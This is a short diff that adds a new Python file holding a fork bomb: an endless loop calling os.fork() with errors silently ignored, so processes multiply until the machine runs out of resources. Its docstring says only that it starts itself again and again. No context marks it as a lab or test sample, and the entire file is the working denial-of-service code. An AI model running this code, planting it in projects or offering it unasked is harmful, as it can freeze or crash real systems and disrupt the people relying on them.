@@ -1,0 +1,9 @@
+"""Starts itself again and again."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
